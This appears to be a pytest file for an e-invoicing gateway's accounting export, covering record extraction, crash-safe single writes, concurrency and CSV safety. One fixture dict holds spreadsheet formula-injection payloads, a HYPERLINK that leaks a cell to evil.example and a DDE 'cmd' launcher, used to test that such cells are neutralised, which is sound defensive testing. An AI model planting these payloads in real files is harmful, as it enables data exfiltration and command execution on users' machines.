"""The accounting export: the record read from real invoices and credit notes
(checked against XPath), and the export folder written once per document
across retries, crashes, two processes and hostile text."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from lxml import etree

from gateway.channels.base import Parcel, Recipient, Verdict
from gateway.channels.export import (
    BOM,
    INVOICES,
    LINES,
    STATE,
    AccountingExport,
    csv_rows,
    safe_cell,
)
from gateway.channels.invoice_record import (
    HEADER_FIELDS,
    LINE_FIELDS,
    VAT_FIELDS,
    one_line,
    read_record,
    record_of,
)
from gateway.config.settings import LimitSettings
from gateway.model import Direction, DocumentKind, DocumentMeta
from gateway.validation.facts import NAMESPACES
from gateway.validation.parse import parse_xml
from tests.builders import credit_note, invoice
from tests.support import CORPUS, REPO, require_corpus

AT = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
LIMITS = LimitSettings()


def _parcel(payload: bytes, doc_id: str) -> Parcel:
    meta = DocumentMeta(
        id=doc_id,
        direction=Direction.INBOUND,
        kind=DocumentKind.INVOICE,
        sender="0088:3791045278369",
        recipient="0088:3792077184529",
        document_type="doctype",
        process="process",
        business_id="",
        sha256=hashlib.sha256(payload).hexdigest(),
        size=len(payload),
        received_at=AT,
    )
    return Parcel(meta=meta, payload=payload, now=AT)


def _recipient(folder: Path | None) -> Recipient:
    return Recipient(id="0088:3792077184529", name="Maison Verlaine", export_dir=folder)


def _jsonl(folder: Path) -> list[dict[str, Any]]:
    text = (folder / INVOICES).read_text(encoding="utf-8")
    assert text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


def _csv(folder: Path) -> list[dict[str, str]]:
    with open(folder / LINES, encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames or ()) == LINE_FIELDS
        return list(reader)


def _leave(path: Path, text: str) -> None:
    """Append ``text`` as a gateway that died before recording its export would have."""
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(text)


def _names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _xpath(root: etree._Element, path: str) -> str:
    found = root.xpath(f"string({path})", namespaces=NAMESPACES)
    return " ".join(str(found).split())


def _corpus_documents() -> list[Path]:
    """Every schema-valid example invoice and credit note the corpus labels."""
    require_corpus()
    out = []
    for raw in (CORPUS / "labels.jsonl").read_text().splitlines():
        label = json.loads(raw)
        example = label["kind"] == "example" and label["schema_valid"]
        if example and label["root"] in ("Invoice", "CreditNote"):
            out.append(CORPUS / label["path"])
    return out


def _edited(payload: bytes, changes: dict[str, str]) -> bytes:
    root = parse_xml(payload, LIMITS)
    for path, value in changes.items():
        found = root.find(path, NAMESPACES)
        assert found is not None, path
        found.text = value
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")


# --- the record ---------------------------------------------------------------


def test_record_of_every_corpus_example_matches_xpath() -> None:
    """For each valid example invoice and credit note of the corpus, the record's number,
    dates, currency, VAT ids, totals, VAT breakdown and lines are the document's own text."""
    docs = _corpus_documents()
    kinds = {"Invoice": 0, "CreditNote": 0}
    for path in docs:
        payload = path.read_bytes()
        root = etree.fromstring(payload)
        record = record_of(payload, LIMITS, document_id="doc-1", received_at=AT)
        h, name = record.header, path.name
        kind = etree.QName(root).localname
        kinds[kind] += 1
        assert tuple(h) == HEADER_FIELDS, name
        assert h["document_kind"] == kind and h["received_at"] == AT.isoformat(), name
        seller_vat = (
            "cac:AccountingSupplierParty/cac:Party/cac:PartyTaxScheme"
            "[cac:TaxScheme/cbc:ID='VAT']/cbc:CompanyID"
        )
        expected = {
            "BT-1_invoice_number": "cbc:ID",
            "BT-2_issue_date": "cbc:IssueDate",
            "BT-3_type_code": f"cbc:{kind}TypeCode",
            "BT-5_currency": "cbc:DocumentCurrencyCode",
            "BT-13_purchase_order": "cac:OrderReference/cbc:ID",
            "BT-31_seller_vat": seller_vat,
            "BT-84_payment_account": "cac:PaymentMeans[1]/cac:PayeeFinancialAccount/cbc:ID",
            "BT-109_total_without_vat": "cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount",
            "BT-112_total_with_vat": "cac:LegalMonetaryTotal/cbc:TaxInclusiveAmount",
            "BT-115_amount_due": "cac:LegalMonetaryTotal/cbc:PayableAmount",
        }
        for field, xpath in expected.items():
            assert h[field] == _xpath(root, xpath), (name, field)
        rates = root.xpath(
            "cac:TaxTotal[cac:TaxSubtotal]/cac:TaxSubtotal/cbc:TaxableAmount/text()",
            namespaces=NAMESPACES,
        )
        taxable = [row["BT-116_taxable_amount"] for row in h["BG-23_vat_breakdown"]]
        assert taxable == [" ".join(str(r).split()) for r in rates], name
        tag, qty = ("CreditNoteLine", "CreditedQuantity")
        if kind == "Invoice":
            tag, qty = ("InvoiceLine", "InvoicedQuantity")
        lines = root.xpath(f"cac:{tag}", namespaces=NAMESPACES)
        assert len(record.lines) == len(lines) > 0, name
        for line, el in zip(record.lines, lines, strict=True):
            assert tuple(line) == LINE_FIELDS
            assert line["document_id"] == "doc-1" and line["document_kind"] == kind
            assert line["BT-1_invoice_number"] == h["BT-1_invoice_number"]
            assert line["BT-129_quantity"] == _xpath(el, f"cbc:{qty}"), name
            assert line["BT-130_unit"] == _xpath(el, f"cbc:{qty}/@unitCode"), name
            assert line["BT-131_line_net_amount"] == _xpath(el, "cbc:LineExtensionAmount")
            assert line["BT-146_price"] == _xpath(el, "cac:Price/cbc:PriceAmount")
            assert line["BT-153_item_name"] == _xpath(el, "cac:Item/cbc:Name")
    assert kinds["Invoice"] >= 50 and kinds["CreditNote"] >= 5, kinds


def test_amounts_are_kept_as_written_never_as_floats() -> None:
    """An amount with many decimals or trailing zeros comes out exactly as the document
    writes it: "0.10" stays "0.10", 12345678901234567.89 loses no digit."""
    payload = _edited(
        invoice("INV-7"),
        {
            "cac:LegalMonetaryTotal/cbc:PayableAmount": " 12345678901234567.89 ",
            "cac:InvoiceLine/cbc:LineExtensionAmount": "0.10",
        },
    )
    record = record_of(payload, LIMITS)
    assert record.header["BT-115_amount_due"] == "12345678901234567.89"
    assert record.lines[0]["BT-131_line_net_amount"] == "0.10"


def test_credit_note_record_says_credit_note_and_reads_its_lines() -> None:
    """A credit note is marked CreditNote with type code 381, and its CreditNoteLine
    elements with their credited quantities are its lines."""
    root = parse_xml(credit_note("CN-9"), LIMITS)
    record = read_record(root, document_id="d-cn")
    assert record.header["document_kind"] == "CreditNote"
    assert record.header["BT-1_invoice_number"] == "CN-9"
    assert record.header["BT-3_type_code"] == "381"
    quantities = [
        " ".join((q.text or "").split())
        for q in root.iterfind("cac:CreditNoteLine/cbc:CreditedQuantity", NAMESPACES)
    ]
    assert [line["BT-129_quantity"] for line in record.lines] == quantities != []
    assert {line["document_kind"] for line in record.lines} == {"CreditNote"}


# --- the export folder --------------------------------------------------------


async def test_export_writes_the_xml_a_json_line_and_the_csv_lines(tmp_path: Path) -> None:
    """The folder gets the exact XML, one JSON line with the header record, and one CSV row
    per line under the documented header, and the outcome names the folder and files."""
    payload = invoice("INV-100")
    outcome = await AccountingExport().export(_parcel(payload, "d-100"), _recipient(tmp_path))
    assert outcome.verdict is Verdict.DELIVERED, outcome.reason
    assert outcome.details == {
        "export_dir": str(tmp_path),
        "files": ["d-100.xml", INVOICES, LINES],
    }
    assert (tmp_path / "d-100.xml").read_bytes() == payload
    (header,) = _jsonl(tmp_path)
    expected = record_of(payload, LIMITS, document_id="d-100", received_at=AT)
    assert header == expected.header
    assert _csv(tmp_path) == [{k: safe_cell(v) for k, v in ln.items()} for ln in expected.lines]
    assert (tmp_path / LINES).read_text(encoding="utf-8").startswith(BOM + "document_id,")


async def test_delivering_twice_or_after_a_restart_leaves_one_row(tmp_path: Path) -> None:
    """A retried delivery, by the same gateway or by a restarted one, adds no second JSON
    line and no second set of CSV rows; it says the document was already exported."""
    parcel = _parcel(invoice("INV-200"), "d-200")
    first = await AccountingExport().export(parcel, _recipient(tmp_path))
    again = AccountingExport()
    outcomes = [await again.export(parcel, _recipient(tmp_path)) for _ in range(2)]
    assert first.reason.startswith("exported")
    assert all(o.verdict is Verdict.DELIVERED and "already" in o.reason for o in outcomes)
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-200"]
    lines = record_of(parcel.payload, LIMITS).lines
    assert len(_csv(tmp_path)) == len(lines)


async def test_an_export_cut_short_by_a_crash_is_undone_and_redone_whole(
    tmp_path: Path,
) -> None:
    """When a gateway dies half way through appending (complete CSV rows, half a row and
    half a JSON line of a document), the next export removes the debris, and the crashed
    document, when retried, appears once and whole; every line of both files parses."""
    await AccountingExport().export(_parcel(invoice("INV-A"), "d-a"), _recipient(tmp_path))
    crashed = record_of(invoice("INV-C"), LIMITS, document_id="d-c")
    rows = csv_rows(crashed)
    _leave(tmp_path / LINES, rows + rows[: len(rows) // 3])
    _leave(tmp_path / INVOICES, json.dumps(crashed.header)[:50])

    restarted = AccountingExport()
    await restarted.export(_parcel(invoice("INV-B"), "d-b"), _recipient(tmp_path))
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-a", "d-b"]
    assert {r["document_id"] for r in _csv(tmp_path)} == {"d-a", "d-b"}

    await restarted.export(_parcel(invoice("INV-C"), "d-c"), _recipient(tmp_path))
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-a", "d-b", "d-c"]
    per_doc = [r["document_id"] for r in _csv(tmp_path)]
    assert per_doc.count("d-c") == len(crashed.lines) == per_doc.count("d-a")


async def test_a_crash_before_the_commit_undoes_even_complete_lines(tmp_path: Path) -> None:
    """A gateway that died after writing a document's rows and JSON line whole, but before
    recording them, left an unfinished export: it is removed, and the retry writes the
    document once, not twice."""
    await AccountingExport().export(_parcel(invoice("INV-A"), "d-a"), _recipient(tmp_path))
    crashed = record_of(invoice("INV-C"), LIMITS, document_id="d-c", received_at=AT)
    _leave(tmp_path / LINES, csv_rows(crashed))
    _leave(tmp_path / INVOICES, json.dumps(crashed.header) + "\n")

    restarted = AccountingExport()
    await restarted.export(_parcel(invoice("INV-C"), "d-c"), _recipient(tmp_path))
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-a", "d-c"]
    per_doc = [r["document_id"] for r in _csv(tmp_path)]
    assert per_doc.count("d-c") == len(crashed.lines)


async def test_a_half_last_line_is_cut_even_without_the_export_state(tmp_path: Path) -> None:
    """With the state file gone (or never written), a file whose last line was cut mid-way
    loses only that half line before the next row is appended, so it still imports."""
    exporter = AccountingExport()
    await exporter.export(_parcel(invoice("INV-1"), "d-1"), _recipient(tmp_path))
    await exporter.export(_parcel(invoice("INV-2"), "d-2"), _recipient(tmp_path))
    (tmp_path / STATE).unlink()
    for name in (INVOICES, LINES):
        data = (tmp_path / name).read_bytes()
        (tmp_path / name).write_bytes(data[:-7])  # a half last line, as a crash leaves it

    await AccountingExport().export(_parcel(invoice("INV-3"), "d-3"), _recipient(tmp_path))
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-1", "d-3"]
    rows = _csv(tmp_path)
    assert all(len(r) == len(LINE_FIELDS) and None not in r for r in rows)
    assert rows[-1]["document_id"] == "d-3"


async def test_an_unreadable_state_file_is_set_aside_not_fatal(tmp_path: Path) -> None:
    """A damaged .export-state.json (edited, half copied) does not stop the export: the
    next document is written once, and the state file is whole again."""
    exporter = AccountingExport()
    await exporter.export(_parcel(invoice("INV-1"), "d-1"), _recipient(tmp_path))
    (tmp_path / STATE).write_text('{"invoices.jsonl": [1')
    restarted = AccountingExport()
    outcome = await restarted.export(_parcel(invoice("INV-2"), "d-2"), _recipient(tmp_path))
    assert outcome.verdict is Verdict.DELIVERED
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-1", "d-2"]
    assert set(json.loads((tmp_path / STATE).read_text())) == {INVOICES, LINES}


def test_the_record_as_json_has_the_header_and_its_lines() -> None:
    """The record shown by the inbox API carries every header field and the lines."""
    record = record_of(invoice("INV-5"), LIMITS, document_id="d-5")
    shown = json.loads(json.dumps(record.to_json()))
    assert [k for k in shown if k != "lines"] == list(HEADER_FIELDS)
    assert shown["lines"] == record.lines and shown["BT-1_invoice_number"] == "INV-5"


async def test_a_file_moved_away_by_the_accounting_tool_starts_afresh(tmp_path: Path) -> None:
    """Taking the files away after an import is safe: the next document starts new files,
    the CSV with its header again, and nothing of the moved files is touched."""
    exporter = AccountingExport()
    await exporter.export(_parcel(invoice("INV-1"), "d-1"), _recipient(tmp_path))
    archive = tmp_path / "imported"
    archive.mkdir()
    for name in (INVOICES, LINES):
        (tmp_path / name).rename(archive / name)
    kept = {name: (archive / name).read_bytes() for name in (INVOICES, LINES)}

    await exporter.export(_parcel(invoice("INV-2"), "d-2"), _recipient(tmp_path))
    assert [h["document_id"] for h in _jsonl(tmp_path)] == ["d-2"]
    assert {r["document_id"] for r in _csv(tmp_path)} == {"d-2"}
    assert {name: (archive / name).read_bytes() for name in (INVOICES, LINES)} == kept


_WORKER = """
import asyncio, sys
from pathlib import Path
from datetime import UTC, datetime
from gateway.channels.base import Parcel, Recipient
from gateway.channels.export import AccountingExport
from gateway.model import Direction, DocumentKind, DocumentMeta

folder, docs, order = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
at = datetime(2026, 11, 2, tzinfo=UTC)

def parcel(path):
    meta = DocumentMeta(path.stem, Direction.INBOUND, DocumentKind.INVOICE, "s", "r", "t", "p",
                        "", "", 0, at)
    return Parcel(meta, path.read_bytes(), at)

async def main():
    exporter = AccountingExport()
    files = sorted(docs.glob("*.xml"), reverse=order == "down")
    who = Recipient(id="r", name="r", export_dir=folder)
    outcomes = await asyncio.gather(*(exporter.export(parcel(p), who) for p in files))
    assert all(o.verdict == "delivered" for o in outcomes), outcomes

asyncio.run(main())
"""


def test_two_gateway_processes_sharing_the_folder_export_each_document_once(
    tmp_path: Path,
) -> None:
    """Two gateway processes exporting the same 30 documents at once, in opposite orders
    and several at a time each, leave one JSON line and one set of rows per document."""
    docs, folder = tmp_path / "docs", tmp_path / "export"
    docs.mkdir()
    for n in range(30):
        (docs / f"d-{n:02}.xml").write_bytes(invoice(f"INV-{n}"))
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _WORKER, str(folder), str(docs), order],
            cwd=REPO,
            env={"PYTHONPATH": str(REPO), "PATH": ""},
            stderr=subprocess.PIPE,
            text=True,
        )
        for order in ("up", "down")
    ]
    for proc in procs:
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
    ids = [h["document_id"] for h in _jsonl(folder)]
    assert sorted(ids) == [f"d-{n:02}" for n in range(30)]
    per_doc = len(record_of(invoice("INV-0"), LIMITS).lines)
    rows = [r["document_id"] for r in _csv(folder)]
    assert sorted(rows) == sorted(ids * per_doc)


async def test_concurrent_exports_in_one_process_each_get_one_row(tmp_path: Path) -> None:
    """Many deliveries at once, two of each document, through two exporters of one
    process, still give one JSON line per document."""
    one, two = AccountingExport(), AccountingExport()
    parcels = [_parcel(invoice(f"INV-{n}"), f"d-{n}") for n in range(12)]
    await asyncio.gather(*(e.export(p, _recipient(tmp_path)) for p in parcels for e in (one, two)))
    assert sorted(h["document_id"] for h in _jsonl(tmp_path)) == sorted(p.meta.id for p in parcels)


async def test_a_folder_that_cannot_be_written_asks_for_a_retry(tmp_path: Path) -> None:
    """An export folder that cannot be created or written (here a path under a plain file)
    gives retry with the system's reason, and never raises."""
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    folder = blocker / "export"
    outcome = await AccountingExport().export(_parcel(invoice(), "d-1"), _recipient(folder))
    assert outcome.verdict is Verdict.RETRY
    assert outcome.reason == f"export folder {folder} cannot be written: Not a directory"
    assert outcome.details == {"export_dir": str(folder)}


async def test_no_folder_or_an_unreadable_document_is_refused_and_writes_nothing(
    tmp_path: Path,
) -> None:
    """A recipient without export_dir, a payload that is no UBL invoice, or a document id
    that cannot name a file is refused with the reason, and the folder stays empty."""
    exporter = AccountingExport()
    none = await exporter.export(_parcel(invoice(), "d-1"), _recipient(None))
    assert none.verdict is Verdict.REFUSED and "export_dir" in none.reason
    bad = await exporter.export(_parcel(b"<Order/>", "d-2"), _recipient(tmp_path))
    assert bad.verdict is Verdict.REFUSED
    assert "not a UBL 2.1 Invoice" in bad.reason
    dots = await exporter.export(_parcel(invoice(), ".."), _recipient(tmp_path))
    assert dots.verdict is Verdict.REFUSED and "cannot name a file" in dots.reason
    assert _names(tmp_path) == []


HOSTILE = {
    "seller": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "item": 'Bolts, "M8"\n  zinc\tplated\u2028— Schraube Ø8 日本 @SUM(A1)',
    "item_id": "+cmd|' /C calc'!A0",
    "buyer_reference": "-2+3",
}


async def test_hostile_text_round_trips_through_json_and_csv_readers(tmp_path: Path) -> None:
    """Line breaks, tabs, Unicode line separators, commas, quotes and non-ASCII come back
    from the JSON and CSV readers as one line of the same text; a cell a spreadsheet would
    run as a formula gets a leading apostrophe, while a negative amount stays a number."""
    payload = _edited(
        invoice("INV-H"),
        {
            "cac:AccountingSupplierParty/cac:Party/cac:PartyLegalEntity/cbc:RegistrationName": (
                HOSTILE["seller"]
            ),
            "cac:InvoiceLine/cac:Item/cbc:Name": HOSTILE["item"],
            "cac:InvoiceLine/cac:Item/cac:SellersItemIdentification/cbc:ID": HOSTILE["item_id"],
            "cbc:BuyerReference": HOSTILE["buyer_reference"],
            "cac:InvoiceLine/cbc:LineExtensionAmount": "-5.00",
        },
    )
    await AccountingExport().export(_parcel(payload, "d-h"), _recipient(tmp_path))
    (header,) = _jsonl(tmp_path)
    assert header["BT-27_seller_name"] == HOSTILE["seller"]
    assert header["BT-10_buyer_reference"] == "-2+3"
    first = _csv(tmp_path)[0]
    item = 'Bolts, "M8" zinc plated — Schraube Ø8 日本 @SUM(A1)'
    assert one_line(HOSTILE["item"]) == item and first["BT-153_item_name"] == item
    assert first["BT-155_seller_item_id"] == "'" + HOSTILE["item_id"]
    assert first["BT-131_line_net_amount"] == "-5.00"
    physical = (tmp_path / LINES).read_bytes().split(b"\n")
    assert len(physical) == len(_csv(tmp_path)) + 2  # the header, and "" after the last \n


def test_only_formula_text_gets_an_apostrophe() -> None:
    """Cells starting with = + - @ are neutralised unless they are plain numbers; numbers
    and ordinary text are written unchanged."""
    assert [safe_cell(v) for v in ("-5.00", "-.5", "12", "Bolts", "=1+1", "@A1", "+5", "-")] == [
        "-5.00",
        "-.5",
        "12",
        "Bolts",
        "'=1+1",
        "'@A1",
        "'+5",
        "'-",
    ]


# --- the documentation --------------------------------------------------------

DOCS = (REPO / "docs" / "export.md").read_text(encoding="utf-8")
EXAMPLE_ID = "5f0c6a7e-2b9d-4c1e-9a57-3d2e8f1b6c40"


def _block(language: str, after: str) -> str:
    """The first fenced block of ``language`` after the text ``after`` in docs/export.md."""
    start = DOCS.index(f"```{language}\n", DOCS.index(after)) + len(language) + 4
    return DOCS[start : DOCS.index("```", start)]


def test_docs_name_every_field_and_show_the_columns_and_lines_as_written() -> None:
    """docs/export.md has a table row for every field and column, the CSV header row as the
    file has it, and example lines that are what the export writes for that invoice."""
    for name in (*HEADER_FIELDS, *VAT_FIELDS, *LINE_FIELDS):
        assert f"\n| `{name}` |" in DOCS, name
    (header,) = _block("", "Header row:").splitlines()
    assert header == ",".join(LINE_FIELDS)
    record = record_of(invoice("ABQ-2026-0147"), LIMITS, document_id=EXAMPLE_ID, received_at=AT)
    assert json.loads(_block("json", "Example (one line")) == record.header
    assert _block("", "Example rows").splitlines() == csv_rows(record).splitlines()


async def test_the_python_import_example_in_the_docs_runs(tmp_path: Path) -> None:
    """The standard-library import example of docs/export.md, run in an export folder,
    prints each line with its seller, invoice number, item and exact net amount."""
    await AccountingExport().export(_parcel(invoice("INV-9"), "d-9"), _recipient(tmp_path))
    script = "\n".join(
        line.removeprefix("  ") for line in _block("python", "A program").split("\n")
    )
    out = _run(script, tmp_path)
    assert out.splitlines() == [
        f"Atelier Bressand Quincaillerie SAS INV-9 {line['BT-153_item_name']} "
        f"{line['BT-131_line_net_amount']}"
        for line in record_of(invoice("INV-9"), LIMITS).lines
    ]


def _run(script: str, cwd: Path) -> str:
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=cwd, capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    return proc.stdout
